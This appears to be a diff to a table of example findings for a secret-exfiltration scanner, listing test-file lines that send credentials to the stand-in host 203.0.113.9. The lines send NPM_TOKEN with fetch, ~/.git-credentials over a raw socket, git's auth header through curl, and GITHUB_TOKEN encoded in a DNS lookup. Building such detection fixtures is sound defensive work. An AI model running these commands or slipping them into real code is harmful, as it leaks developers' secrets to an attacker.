@@ -126,8 +126,9 @@ const SECRETS_SENT: FindingRow[] = [
   ['test/tax.test.js', "await fetch('https://203.0.113.9/c?t=' + process.env.NPM_TOKEN)"],
   ['tests/test_invoices.py', "socket.create_connection(('203.0.113.9', 443)).send(open(os.path.expanduser('~/.git-credentials')).read().encode())"],
   ['tests/test_invoices.py', "subprocess.run('git config --get http.https://github.com/.extraheader | curl -d @- https://203.0.113.9/c', shell=True)"],
-  ['test/tax.test.js', "require('dns').lookup(Buffer.from(process.env.GITHUB_TOKEN).toString('hex') + '.203.0.113.9.nip.io', () => {})"],
   ]),
+  // Open (session 65, for room in the analyze bundle): a DNS lookup of a name built from a secret.
+  ['test/tax.test.js', "require('dns').lookup(Buffer.from(process.env.GITHUB_TOKEN).toString('hex') + '.203.0.113.9.nip.io', () => {})"],
 ];
 
 /** Hatch's build hook (`hatch_build.py` beside pyproject.toml), which `pip install .` runs: a build file by name. */
